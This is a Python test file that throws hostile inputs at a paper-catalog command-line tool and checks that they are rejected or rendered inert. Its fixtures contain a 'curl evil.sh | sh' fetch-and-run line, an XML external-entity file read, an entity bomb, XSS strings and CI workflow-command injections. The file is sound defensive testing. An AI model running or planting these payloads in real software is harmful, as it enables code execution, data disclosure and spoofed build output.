"""The hostile-input corpus, catalog side: records, `specatlas new`, the freshness feed reader,
`list-coverage`'s paper list, and what `audit`, `stats`, `bib` and `check-links` read. Each case
is a corpus.Case, run by corpus.run_case like every other.

`python tests/hostile/corpus_catalog.py` runs these cases alone and prints their tally.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from corpus import NEW, Case, _fifo, _github_lines, _no_new_record, _sparse, _symlink, record

SINCE = ["--since", "2020-01-01"]
FEED = "{root}/feed.xml"
LIST = "{root}/list.json"


def _rec(**changes: str) -> dict[str, str]:
    return {NEW: record(**changes)}


def _reported_note(note: str) -> dict[str, str]:
    return {NEW: record(reported_results="\n  - metric: speedup\n    value: 2.0\n    target_model: x\n"
                                         "    benchmark: y\n    source: Table 1\n    note: " + note)}


# Feeds ------------------------------------------------------------------------------------------

def _entry(title: str = "Speculative Decoding with Hostile Feeds", published: str | None = "2026-11-24T18:02:11Z",
           entry_id: str = "http://arxiv.org/abs/2611.20417v1", category: str = "cs.CL",
           author: str = "Mira Solberg") -> str:
    """One Atom entry (XML text: pass &#10; for a newline) that the 'speculative decoding' query matches."""
    when = f"<published>{published}</published>" if published is not None else ""
    return (f"<entry><id>{entry_id}</id><title>{title}</title><updated>2026-11-24T18:02:11Z</updated>"
            f"<summary>We study speculative decoding.</summary><category term=\"cs.CL\"/>{when}"
            f"<arxiv:primary_category term=\"{category}\"/><author><name>{author}</name></author></entry>")


def _feed(*entries: str) -> str:
    return ("<?xml version='1.0' encoding='UTF-8'?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\" "
            "xmlns:arxiv=\"http://arxiv.org/schemas/atom\">" + "".join(entries or (_entry(),)) + "</feed>\n")


def _freshness(feed: str | bytes, *extra: str, **case) -> Case:
    return Case(case.pop("name"), ["freshness", "--listing", FEED, *SINCE, *extra], {"feed.xml": feed}, **case)


def _inert_report(root: Path, tmp: Path, text: str) -> str | None:
    """The feed's planted text ('pwned') stays inside its paper's one line, with nothing live in it."""
    for line in text.splitlines():
        if "pwned" not in line:
            continue
        if not line.startswith("- [ ] **"):
            return f"the feed's text made its own line: {line!r}"
        for live in ("](", "`", "<img", "@evil", "#1 "):
            if live in line.replace("\\]", "").replace("\\`", "").replace("\\<", "").replace("[abs](https://arxiv.org", ""):
                return f"{live!r} is live in {line!r}"
    return None if "pwned" in text else "the paper is missing from the report"


_BOMB = ('<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY a "lollollollollol">'
         + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
         + ']><feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&i;</title></entry></feed>')


SECRET = "top-secret-2611"


def _external_entity(root: Path, tmp: Path) -> None:
    """A feed whose DOCTYPE asks for a local file: the reader must never fetch it into the report."""
    (tmp / "secret.txt").write_text(SECRET)
    (root / "feed.xml").write_text(f'<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY x SYSTEM "file://{tmp}/secret.txt">]>'
                                   '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&x;</title></entry></feed>')


def _not_in_output(secret: str):
    def check(root: Path, tmp: Path, text: str) -> str | None:
        return f"the output holds {secret!r}" if secret in text else None
    return check


# Paper lists -----------------------------------------------------------------------------------

def _row(**changes) -> dict:
    row = {"section": "Speculative Decoding for LLMs", "title": "A Listed Paper Nobody Wrote", "arxiv_id": None,
           "source_line": 999_999}
    row.update(changes)
    return {k: v for k, v in row.items() if v is not ...}


def _list(*rows) -> str:
    return json.dumps({"papers": list(rows)})


def _coverage(name: str, content: str | bytes, **case) -> Case:
    return Case(name, ["list-coverage", "--list", LIST], {"list.json": content}, **case)


def _no_command_lines(root: Path, tmp: Path, text: str) -> str | None:
    """No output line reads as a CI runner's command, and each planted line stays inside its own."""
    stray = [line for line in text.splitlines() if line.lstrip().startswith("::") or line.startswith("pwned")]
    return f"a list's text made its own line: {stray[0]!r}" if stray else None


def _short_lines(root: Path, tmp: Path, text: str) -> str | None:
    long = [line for line in text.splitlines() if len(line) > 1000]
    return f"an output line has {len(long[0]):,} characters" if long else None


def _no_bidi(root: Path, tmp: Path, text: str) -> str | None:
    return "a bidirectional override reached the output" if "\u202e" in text else None


# Record files that are no record -----------------------------------------------------------------

def _evil_name(root: Path, tmp: Path) -> None:
    (root / "papers" / "gamma2024case\n::warning::pwned.yaml").write_text(record(), encoding="utf-8")


def _one_line_each(root: Path, tmp: Path, text: str) -> str | None:
    stray = [line for line in text.splitlines() if line.startswith("::") or "pwned" in line and
             not line.startswith(("papers/", "specatlas audit"))]
    return f"a file name made its own line: {stray[0]!r}" if stray else None


NEW_OK = ["--authors", "Ada Alpha", "--year", "2024", "--venue", "arXiv", "--dir", "{tmp}"]


def catalog_cases() -> list[Case]:
    v = ["validate"]
    out = [
        # -- line and paragraph separators, C1 controls: in every string of a record
        Case("u2028-in-title", v, _rec(title='"Gamma Study\\Lof Separators"'), message="title: contains the control character U+2028"),
        Case("u2029-in-title", v, _rec(title='"Gamma Study\\Pof Paragraphs"'), message="title: contains the control character U+2029"),
        Case("u2028-in-summary", v, _rec(summary='"A summary that is long enough to pass the length rule.\\LIt goes on."'),
             message="summary: contains the control character U+2028"),
        Case("u2029-in-author", v, _rec(authors='["Ada\\PAlpha"]'), message="authors[0]: contains the control character U+2029"),
        Case("u2028-raw-utf8-in-quoted-title", v, {NEW: record(title="'Gamma Study\u2028of Raw Separators'")},
             message="title: contains the control character U+2028"),
        Case("u2028-raw-utf8-in-plain-title", v, {NEW: record(title="Gamma Study\u2028of Raw Separators")},
             message="gamma2024case.yaml:4: (yaml): not valid YAML"),
        Case("u2028-in-url", v, _rec(url='"https://example.org/a\\Lb"'), message="url: contains the control character U+2028"),
        Case("c1-control-in-doi", v, _rec(doi='"10.1000/x\\x90y"'), message="doi: contains the control character U+0090"),
        Case("c1-csi-in-url", v, _rec(url='"https://example.org/\\x9b31m"'), message="url: contains the control character U+009B"),
        Case("c1-csi-in-code-link", v, _rec(code='["https://github.com/a/b\\x9b2J"]'),
             message="code[0]: contains the control character U+009B"),
        Case("nel-in-title", v, _rec(title='"Gamma Study\\Nof Next Lines"'), message="title: contains the control character U+0085"),
        Case("u2029-in-reported-note", v, _reported_note('"first\\Psecond"'),
             message="reported_results[0].note: contains the control character U+2029"),
        Case("u2028-in-bibtex-note", v, {NEW: record(bibtex='{note: "a\\Lb"}')}, message="bibtex.note: contains the control"),
        Case("escape-in-venue-note", v, _rec(venue_note='"Oral\\e[31m"'), message="venue_note: contains the control character U+001B"),
        Case("u2028-in-link", v, _rec(links='{blog: "https://example.org/\\L::error::pwned"}'),
             message="links.blog: contains the control character U+2028"),
        Case("u2028-github-format", ["validate", "--format", "github"], _rec(title='"Gamma\\L::warning file=x::pwned"'),
             message="U+2028", check=_github_lines),
        Case("u2028-stats", ["stats"], _rec(title='"Gamma Study\\Lof Stats"'), fails=False, message="1 validation problems"),
        Case("u2028-bib", ["bib", "-o", "{tmp}/out.bib"], _rec(title='"Gamma Study\\Lof Citations"'), message="U+2028"),
        # -- line breaks: a summary or note is one line too (a table cell or a page block would end there)
        Case("newline-in-summary-literal-block", v,
             _rec(summary="|\n  A summary that is long enough to pass the length rule.\n  ```\n  A second block."),
             message="summary: contains the control character U+000A"),
        Case("newline-in-reported-note", v, _reported_note('"first\\n| x | y |"'),
             message="reported_results[0].note: contains the control character U+000A"),
        Case("tab-in-summary", v, _rec(summary='"A summary that is long enough\\tto pass the length rule."'),
             message="summary: contains the control character U+0009"),
        Case("folded-summary-trailing-newline", v,
             _rec(summary=">\n  A summary that is long enough to pass the length rule.\n"), fails=False, message="ok: 3 records"),
        Case("crlf-line-endings", v, {NEW: record().replace("\n", "\r\n")}, fails=False, message="ok: 3 records"),
        Case("cr-line-endings", v, {NEW: record().replace("\n", "\r")}, fails=False, message="ok: 3 records"),
        Case("validate-path-newline", ["validate", "{tmp}/a\n::error::pwned.yaml"], message="does not exist",
             check=_no_command_lines),
        # -- a record that is not its own duplicate, and lists that repeat
        Case("not-duplicate-of-itself", v, _rec(not_duplicate_of="[gamma2024case]"),
             message="not_duplicate_of[0]: names the record itself"),
        Case("not-duplicate-of-repeated", v, _rec(not_duplicate_of="[alpha2023drafting, alpha2023drafting]"),
             message="not_duplicate_of: has a repeated entry"),
        Case("previous-titles-repeated", v, _rec(previous_titles="[An Older Title, An Older Title]"),
             message="previous_titles: has a repeated entry"),
        Case("markup-in-author", v, _rec(authors="['<img src=x onerror=alert(1)>']"), message="authors[0]: contains HTML"),
        # -- file names that are no record id
        Case("file-name-newline-validate", v, prepare=_evil_name, message="must equal the file name", check=_one_line_each),
        Case("file-name-newline-audit", ["audit", "--seed", "1"], prepare=_evil_name, fails=False,
             message="left out 1 file(s)", check=_one_line_each),
        # -- specatlas new: free text is plain text on one line
        Case("new-title-script", ["new", "--title", "<script>alert(1)</script> Drafting", *NEW_OK],
             message="--title", check=_no_new_record),
        Case("new-title-img-onerror", ["new", "--title", "Drafting <img src=x onerror=alert(1)>", *NEW_OK],
             message="markup", check=_no_new_record),
        Case("new-title-javascript-url", ["new", "--title", "Drafting javascript:alert(1)", *NEW_OK],
             message="--title", check=_no_new_record),
        Case("new-authors-markup", ["new", "--title", "A Title Here", "--authors", "<b>Ada</b> Alpha", "--year", "2024",
                                    "--venue", "arXiv", "--dir", "{tmp}"], message="--authors", check=_no_new_record),
        Case("new-title-blank", ["new", "--title", "   ", *NEW_OK], message="--title", check=_no_new_record),
        Case("new-title-too-short", ["new", "--title", "Hi", *NEW_OK], message="at least 4 characters", check=_no_new_record),
        Case("new-author-initial-only", ["new", "--title", "A Title Here", "--authors", "A, Bo Beta", "--year", "2024",
                                         "--venue", "arXiv", "--dir", "{tmp}"], message="--authors 'A'",
             check=_no_new_record),
        Case("new-title-u2028", ["new", "--title", "A Title\u2028Here", *NEW_OK], message="U+2028", check=_no_new_record),
        Case("new-title-bidi", ["new", "--title", "A Title \u202eereH", *NEW_OK], message="--title", check=_no_new_record),
        Case("new-authors-u2029", ["new", "--title", "A Title Here", "--authors", "Ada\u2029Alpha", "--year", "2024",
                                   "--venue", "arXiv", "--dir", "{tmp}"], message="--authors", check=_no_new_record),
        Case("new-venue-newline", ["new", "--title", "A Title Here", "--authors", "Ada Alpha", "--year", "2024",
                                   "--venue", "Nowhere\n::error::pwned", "--dir", "{tmp}"],
             message="is not in the controlled list", check=_no_command_lines),
        Case("new-venue-bidi", ["new", "--title", "A Title Here", "--authors", "Ada Alpha", "--year", "2024",
                                "--venue", "Nowhere \u202eSPIRCNE", "--dir", "{tmp}"],
             message="is not in the controlled list", check=_no_bidi),
        # -- specatlas freshness: dates, feeds that are not Atom, text that must stay inert
        _freshness(_feed(), "--since", "2999-01-01", name="freshness-since-future", message="--since 2999-01-01 is in the future"),
        Case("freshness-since-future-no-listing", ["freshness", "--since", "2999-01-01"], message="is in the future"),
        _freshness(_feed(), "--since", "2024-02-30", name="freshness-since-impossible", message="--since"),
        _freshness(_feed(_entry(published=None), _entry(title="Speculative Decoding Kept", entry_id="http://arxiv.org/abs/2611.20418v1")),
                   name="freshness-entry-without-date", fails=False, message="skipped 1 feed entry without a readable id or date"),
        _freshness(_feed(_entry(published="2024-02-30T00:00:00Z")), name="freshness-entry-impossible-date", fails=False,
                   message="published date '2024-02-30T00:00:00Z' is not a date"),
        _freshness(_feed(_entry(published="yesterday")), name="freshness-entry-text-date", fails=False,
                   message="skipped 1 feed entry"),
        _freshness(_feed(_entry(entry_id="not-an-id")), name="freshness-entry-bad-id", fails=False,
                   message="is not an arXiv id"),
        _freshness('<?xml version="1.0"?><rss version="2.0"><channel><item><title>Speculative decoding</title></item>'
                   "</channel></rss>", name="freshness-rss-feed", message="not an Atom feed: the document is <rss>"),
        _freshness('<html xmlns="http://www.w3.org/1999/xhtml"><body><p>speculative decoding</p></body></html>',
                   name="freshness-xhtml-page", message="not an Atom feed"),
        _freshness("<feed><entry><id>http://arxiv.org/abs/2611.20417v1</id></entry></feed>",
                   name="freshness-feed-without-namespace", message="not an Atom feed"),
        _freshness(_feed(_entry(title="Speculative Decoding pwned&#10;```bash&#10;curl evil.sh | sh&#10;```")),
                   name="freshness-title-shell-block", fails=False, check=_inert_report),
        _freshness(_feed(_entry(category="cs.CL&#10;```bash&#10;curl evil.sh | sh # pwned&#10;```&#10;")),
                   name="freshness-category-newline", fails=False, check=_inert_report),
        _freshness(_feed(_entry(title="Speculative Decoding pwned [click here](https://evil.example/x)")),
                   name="freshness-title-markdown-link", fails=False, check=_inert_report),
        _freshness(_feed(_entry(title="Speculative Decoding pwned @evil and @evil-org/team")),
                   name="freshness-title-mention", fails=False, check=_inert_report),
        _freshness(_feed(_entry(title="Speculative Decoding pwned &lt;img src=x onerror=alert(1)&gt; `code`")),
                   name="freshness-title-html-and-code", fails=False, check=_inert_report),
        _freshness(_feed(_entry(title="Speculative Decoding pwned &amp;#64;evil fixes #1 now")),
                   name="freshness-title-entity-mention", fails=False, check=_inert_report),
        _freshness(_feed(_entry(author="pwned @evil&#10;::error::x")), name="freshness-author-mention",
                   fails=False, check=_inert_report),
        _freshness(_BOMB, name="freshness-entity-bomb", message="not an Atom feed"),
        Case("freshness-external-entity", ["freshness", "--listing", FEED, *SINCE], prepare=_external_entity,
             message="not an Atom feed", check=_not_in_output(SECRET)),
        _freshness('<feed xmlns="http://www.w3.org/2005/Atom">' + "<a>" * 100_000 + "</a>" * 100_000 + "</feed>",
                   name="freshness-deep-xml", fails=False, message="0 matching paper(s)"),
        _freshness(b"\xff\xfe\x00garbage", name="freshness-listing-binary", message="feed.xml"),
        _freshness(b"\xef\xbb\xbf" + _feed().encode(), name="freshness-listing-bom", fails=False,
                   message="1 matching paper(s)"),
        _freshness(_feed().replace("UTF-8", "UTF-16").encode("utf-16"), name="freshness-listing-utf16", fails=False,
                   message="1 matching paper(s)"),
        _freshness(b"", name="freshness-listing-empty", message="feed.xml"),
        Case("freshness-listing-fifo", ["freshness", "--listing", "{root}/feed.xml", *SINCE], prepare=_fifo("feed.xml"),
             message="not a regular file"),
        Case("freshness-listing-dev-zero", ["freshness", "--listing", "{root}/feed.xml", *SINCE],
             prepare=_symlink("feed.xml", "/dev/zero"), message="not a regular file"),
        # -- specatlas list-coverage: rows of the wrong shape, output that stays on its lines
        _coverage("list-title-workflow-command", _list(_row(title="Nobody\n::error file=x::pwned\n::add-mask::y")),
                  message="no record and no exclusion", check=_no_command_lines),
        _coverage("list-title-leading-colons", _list(_row(title="::error::pwned")), check=_no_command_lines,
                  message="no record and no exclusion"),
        _coverage("list-title-bidi", _list(_row(title="Nobody \u202edetsil")), message="no record", check=_no_bidi),
        _coverage("list-arxiv-object", _list(_row(arxiv_id={"id": "2401.00001"})),
                  message="papers[0] (source_line 999999): 'arxiv_id' must be text or null, not an object"),
        _coverage("list-section-list", _list(_row(), _row(section=["Survey"], source_line=9)),
                  message="papers[1] (source_line 9): 'section' must be text, not an array"),
        _coverage("list-section-missing", _list(_row(section=...)), message="'section' is missing"),
        _coverage("list-source-line-boolean", _list(_row(source_line=True)),
                  message="papers[0]: 'source_line' must be a whole number, not a boolean"),
        _coverage("list-source-line-text", _list(_row(source_line="3")), message="'source_line' must be a whole number"),
        _coverage("list-title-number", '{"papers": [{"section": "S", "title": NaN, "source_line": 1}]}',
                  message="'title' must be text, not a number"),
        _coverage("list-row-not-object", _list("a row"), message="papers[0]: is text, not an object"),
        _coverage("list-papers-object", json.dumps({"papers": {"title": "x"}}), message="'papers' is an array"),
        _coverage("list-top-level-array", json.dumps([_row()]), message="'papers' is an array"),
        _coverage("list-deep-nesting", '{"papers": ' + "[" * 200_000 + "]" * 200_000 + "}", message="nested too deeply"),
        _coverage("list-not-utf8", b'{"papers": [{"title": "\xff"}]}', message="not UTF-8"),
        _coverage("list-utf8-bom", b"\xef\xbb\xbf" + _list(_row()).encode(), message="no record and no exclusion"),
        Case("list-huge-sparse", ["list-coverage", "--list", LIST], prepare=_sparse("list.json", 100 << 20),
             message="at most"),
        _coverage("list-long-title", _list(_row(title="Long " * 200_000)), message="no record and no exclusion",
                  check=_short_lines),
        Case("list-is-a-folder", ["list-coverage", "--list", "{root}/papers"], message="is a folder"),
        Case("list-fifo", ["list-coverage", "--list", LIST], prepare=_fifo("list.json"), message="not a regular file"),
        # -- check-links reads what it checks bounded, and asks for nothing a record cannot hold
        Case("check-links-huge-record", ["check-links", "papers/gamma2024case.yaml"],
             {NEW: record() + "# " + "x" * 5_000_000 + "\n"}, fails=False, message="no links"),
        Case("check-links-newline-url", ["check-links", "papers/gamma2024case.yaml", "--format", "github"],
             {NEW: record(url='"https://example.org/\\n::error::pwned"', pdf=None, code=None, links=None)},
             fails=False, message="no links"),
        Case("check-links-not-utf8", ["check-links", "papers/gamma2024case.yaml"],
             {NEW: b"url: https://example.org/\xff\n"}, fails=False, message="no links"),
        Case("check-links-path-newline", ["check-links", "{tmp}/a\n::error::pwned.yaml"], message="no such record",
             check=_no_command_lines),
        Case("check-links-alias-bomb", ["check-links", "papers/gamma2024case.yaml"],
             {NEW: 'a: &a ["https://example.org/"]\nurl: *a\n'}, fails=False, message="no links"),
    ]
    return out


if __name__ == "__main__":
    import collections

    from corpus import run_all

    counts = collections.Counter()
    for case, outcome, seconds, _ in run_all(catalog_cases()):
        counts[outcome.status] += 1
        last = " | ".join(line for line in outcome.output.strip().splitlines()[-2:])
        print(f"{outcome.status:9} {seconds:5.1f}s {case.name:38} {outcome.detail[:120]}"
              + (f"\n{'':16}{last[:200]!r}" if os.environ.get("SHOW_OUTPUT") else ""))
    print(f"\n{sum(counts.values())} inputs: " + ", ".join(f"{n} {s}" for s, n in sorted(counts.items())))
